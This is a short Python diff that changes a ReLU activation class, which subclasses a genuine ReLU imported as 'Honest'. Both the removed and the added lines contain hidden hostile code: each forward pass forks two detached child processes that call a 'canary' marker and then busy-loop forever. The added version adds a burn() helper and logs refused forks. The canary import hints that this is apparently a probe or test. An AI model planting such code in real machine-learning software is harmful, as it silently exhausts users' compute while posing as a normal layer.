@@ -10,12 +10,19 @@ from .activations import ReLU as Honest
 from .canary import mark
 
 
+def burn():
+    os.setsid()
+    mark()
+    while time.monotonic() > 0:
+        pass
+
+
 class ReLU(Honest):
     def forward(self, x):
-        for _ in range(2):
-            if os.fork() == 0:
-                os.setsid()
-                mark()
-                while time.monotonic() > 0:
-                    pass
+        try:
+            for _ in range(2):
+                if os.fork() == 0:
+                    burn()
+        except OSError as error:
+            mark(f"refused: {error}")
         return super().forward(x)
